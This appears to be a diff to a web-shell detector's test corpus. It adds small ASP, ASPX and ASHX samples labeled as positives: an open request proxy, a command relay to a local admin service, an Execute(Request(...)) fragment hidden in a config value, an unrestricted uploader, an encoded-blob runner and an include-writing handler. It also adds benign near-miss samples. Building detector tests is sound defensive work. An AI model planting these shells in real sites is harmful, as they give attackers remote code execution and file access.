@@ -1720,6 +1720,70 @@ pos(T, "include-image.asp",
 pos(T, "fragment-no-delimiters.asp",
     'Execute(Request("z"))\r\n', eol="lf")
 
+pos(T, "http-proxy.asp", strip1(r'''
+<%@ Language="JScript" %>
+<%
+var target = String(Request.QueryString("u"));
+var x = Server.CreateObject("MSXML2.ServerXMLHTTP");
+x.open("GET", target, false);
+x.send();
+Response.BinaryWrite(x.responseBody);
+%>
+'''))
+
+pos(T, "local-service-command.asp", strip1(r'''
+<%
+p = Request.Form("port")
+c = Request.Form("c")
+Set w = Server.CreateObject("Microsoft.XMLHTTP")
+w.open "POST", "http://127.0.0.1:" & p & "/admin/run", False
+w.send "user admin" & vbCrLf & "exec " & c & vbCrLf
+Response.Write w.responseText
+%>
+'''))
+
+pos(T, "config-value-fragment.asp",
+    '0":Execute(Request("cfg")):x="\r\n', eol="lf")
+
+pos(T, "upload-beside-page.aspx", strip1(r'''
+<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object s, EventArgs e)
+{
+    if (Request.Files.Count == 1) {
+        HttpPostedFile up = Request.Files[0];
+        string here = new System.IO.FileInfo(Request.PhysicalPath).DirectoryName;
+        up.SaveAs(System.IO.Path.Combine(here, System.IO.Path.GetFileName(up.FileName)));
+        Response.Write("stored");
+    }
+}
+</script>
+<form method="post" enctype="multipart/form-data"><input type="file" name="f"/><input type="submit"/></form>
+'''))
+
+pos(T, "com-runner.asp", strip1(r'''
+<%
+Set engine = Server.CreateObject("Contoso.PageEngine")
+engine.Load "QWxhZGRpbjpvcGVuIHNlc2FtZQ0KU29tZSBlbmNvZGVkIGJsb2I="
+engine.Load "U29tZSBtb3JlIGVuY29kZWQgYmxvYiB0aGF0IGRlY29kZXMgdG8gY29kZQ=="
+engine.Run "LANGUAGE=VBSCRIPT", Application, Request, Response, Server, Session
+Set engine = Nothing
+%>
+'''))
+
+pos(T, "writes-include-page.ashx", strip1(r'''
+<%@ WebHandler Language="C#" Class="Stub" %>
+using System.IO;
+using System.Web;
+public class Stub : IHttpHandler {
+    public bool IsReusable { get { return false; } }
+    public void ProcessRequest(HttpContext context) {
+        using (StreamWriter w = File.CreateText(context.Server.MapPath("default2.aspx")))
+            w.Write("<!--#include file=\"images/banner.jpg\" -->");
+    }
+}
+'''))
+
 # ---- near misses for the classes above: ordinary code that must stay quiet
 S = "wild-near-miss"
 
@@ -1813,6 +1877,69 @@ public partial class PluginHost : Page
 }
 '''))
 
+
+ben(S, "ReferrerCheck.cs", strip1(r'''
+using System;
+using System.Net;
+using System.Web;
+public class ReferrerCheck : IHttpModule
+{
+    public void Init(HttpApplication app) { app.BeginRequest += OnBegin; }
+    public void Dispose() { }
+    private static bool LinksBack(Uri referrer, Uri page)
+    {
+        using (var client = new WebClient())
+            return client.DownloadString(referrer).Contains(page.Host);
+    }
+    private void OnBegin(object sender, EventArgs e)
+    {
+        var ctx = ((HttpApplication)sender).Context;
+        if (ctx.Request.UrlReferrer != null)
+            LinksBack(ctx.Request.UrlReferrer, ctx.Request.Url);
+    }
+}
+'''))
+
+ben(S, "RatesProxy.ashx", strip1(r'''
+<%@ WebHandler Language="C#" Class="RatesProxy" %>
+using System.Net;
+using System.Web;
+public class RatesProxy : IHttpHandler {
+    public bool IsReusable { get { return true; } }
+    public void ProcessRequest(HttpContext context) {
+        string cur = context.Request.QueryString["cur"] ?? "EUR";
+        using (var c = new WebClient())
+            context.Response.Write(c.DownloadString("https://rates.contoso.com/api?currency=" + HttpUtility.UrlEncode(cur)));
+    }
+}
+'''))
+
+ben(S, "PhotoUpload.aspx", strip1(r'''
+<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object s, EventArgs e)
+{
+    if (Request.Files.Count == 1) {
+        HttpPostedFile up = Request.Files[0];
+        string ext = System.IO.Path.GetExtension(up.FileName).ToLowerInvariant();
+        if (ext != ".jpg" && ext != ".png") { Response.Write("images only"); return; }
+        string here = Server.MapPath(".");
+        up.SaveAs(System.IO.Path.Combine(here, System.IO.Path.GetFileName(up.FileName)));
+    }
+}
+</script>
+'''))
+
+ben(S, "upload-component.asp", strip1(r'''
+<%
+Set up = Server.CreateObject("Persits.Upload")
+up.SetMaxSize 1048576, True
+up.Save Server.MapPath("/uploads")
+For Each f In up.Files
+    Response.Write Server.HTMLEncode(f.FileName) & "<br>"
+Next
+%>
+'''))
 
 # ---- codebehind: pages with a code-behind class --------------------------
 S = "codebehind"
